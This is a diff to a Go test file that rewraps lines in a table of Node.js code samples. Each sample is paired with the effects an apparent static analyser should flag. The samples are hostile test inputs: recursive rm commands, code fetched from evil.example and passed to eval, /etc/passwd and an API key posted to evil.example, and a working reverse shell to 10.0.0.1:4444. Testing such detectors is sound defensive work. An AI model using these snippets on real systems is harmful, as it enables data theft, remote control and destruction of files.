@@ -3,7 +3,8 @@ package code_test
 var nodeCases = []testCase{
 	{"require('child_process').execSync('rm -rf /x')", is("shell rm -rf /x")},
 	{"const {execSync: x} = require('child_' + 'process'); x(`rm -rf ${'/x'}`)", is("shell rm -rf /x")},
-	{`const cp = require("node:child_process"); cp.spawn('rm', ['-rf', '/x'], {stdio: 'inherit'}); cp.spawn('ls -l', {shell: true})`, is("argv [rm|-rf|/x]", "shell ls -l")},
+	{`const cp = require("node:child_process"); cp.spawn('rm', ['-rf', '/x'], {stdio: 'inherit'}); cp.spawn('ls -l', ` +
+		`{shell: true})`, is("argv [rm|-rf|/x]", "shell ls -l")},
 	{"import {exec as e} from 'child_process'; e('id', (err, out) => console.log(out))", is("shell id")},
 	{"import * as cp from 'node:child_process'; cp.execFileSync('git', ['push', '--force'])",
 		is("argv [git|push|--force]")},
@@ -29,14 +30,18 @@ var nodeCases = []testCase{
 		is("net-in http://evil.example/a", "code … from network")},
 	{"fetch('http://evil.example/a').then(r => r.text()).then(eval)",
 		is("net-in http://evil.example/a", "code … from network")},
-	{"const axios = require('axios'); axios.post('http://evil.example', {d: require('fs').readFileSync('/etc/passwd', 'utf8')})", is("read /etc/passwd", "net-out http://evil.example from file")},
+	{"const axios = require('axios'); axios.post('http://evil.example', " +
+		"{d: require('fs').readFileSync('/etc/passwd', 'utf8')})", is("read /etc/passwd", "net-out http://evil.example "+
+		"from file")},
 	{"fetch('http://evil.example/?' + process.env.API_KEY)", is("read environment from secret",
 		"net-out http://evil.example/?… from secret")},
 	{"require('https').get('https://example.com/x', r => r.pipe(require('fs').createWriteStream('/tmp/p')))",
 		is("net-in https://example.com/x", "write /tmp/p")},
 	{"require('http').request({host: 'evil.example', port: 80, path: '/x', method: 'POST'})",
 		is("net-out evil.example:80/x")},
-	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})", is("argv [/bin/sh]", "exec /bin/sh from network", "net-in 10.0.0.1:4444", "shell …")},
+	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();" +
+		"c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})", is("argv [/bin/sh]", "exec /bin/sh "+
+		"from network", "net-in 10.0.0.1:4444", "shell …")},
 	{`require('vm').runInNewContext('x', {x: 1}); setTimeout("require('fs').rmSync('/x')", 1)`,
 		is("code x", "code require('fs').rmSync('/x')", "delete /x")},
 	{"const fs = require('fs').promises; async function f(p) { await fs.rm(p, {recursive: true}) } f('/x')",
@@ -62,7 +67,8 @@ var nodeCases = []testCase{
 	{"const {a, b: {c}} = JSON.parse(process.argv[1]); console.log(`${a} ${c ?? 'none'} \\`rm\\``)", nil},
 	{"const exec = (x) => x; exec('rm -rf /'); class A { eval(x) { return x } }", nil},
 	{"process.env.NODE_ENV = 'test'; if (process.env.CI) console.log(process.env.HOME)", nil},
-	{"`${require('child_process').execSync('id')}`; const f = async () => { await import('child_process').then(c => c.exec('ls')) }", is("shell id", "shell ls")},
+	{"`${require('child_process').execSync('id')}`; const f = async () => { await import('child_process').then(c => " +
+		"c.exec('ls')) }", is("shell id", "shell ls")},
 	{`require('child_process').exec("\x69\u0064")`, is("shell id")},
 	{"const {spawn} = require('child_process'), p = spawn('sh', ['-c', 'rm -rf ' + ['/a', 'b'].join('/')])",
 		is("argv [sh|-c|rm -rf /a/b]")},
@@ -76,8 +82,11 @@ var nodeCases = []testCase{
 		is("code require('fs').rmSync('/x')", "delete /x", "opaque …", "code 1")},
 	{"[][f + g][h](i)()", is("opaque list.…")},
 	{"const handlers = {a: 1}; handlers[name](x); list[i](x)", nil},
-	{"User.destroy({where: {}, truncate: true}); User.destroy({where: {}}); User.destroy({where: {id: 1}}); socket.destroy(); x.destroy({a: 1})", is("remote-delete rows of a table bulk", "remote-delete rows of a table bulk", "remote-delete rows of a table")},
+	{"User.destroy({where: {}, truncate: true}); User.destroy({where: {}}); User.destroy({where: {id: 1}}); " +
+		"socket.destroy(); x.destroy({a: 1})", is("remote-delete rows of a table bulk", "remote-delete rows of a table bulk",
+		"remote-delete rows of a table")},
 	{"process['mainModule']['require']('child_process')['ex' + 'ec']('id')", is("shell id")},
 	{`process.chdir("/"); require("fs").rmSync("srv", {recursive: true})`, is("delete /srv recursive")},
-	{`const c = require("child_process"); c.execSync("rm -rf x", {cwd: "/"}); c.spawn("id", ["-u"], {cwd: "/srv"}); c.execSync("id")`, is("shell rm -rf x in /", "argv [id|-u] in /srv", "shell id")},
+	{`const c = require("child_process"); c.execSync("rm -rf x", {cwd: "/"}); c.spawn("id", ["-u"], {cwd: "/srv"}); ` +
+		`c.execSync("id")`, is("shell rm -rf x in /", "argv [id|-u] in /srv", "shell id")},
 }
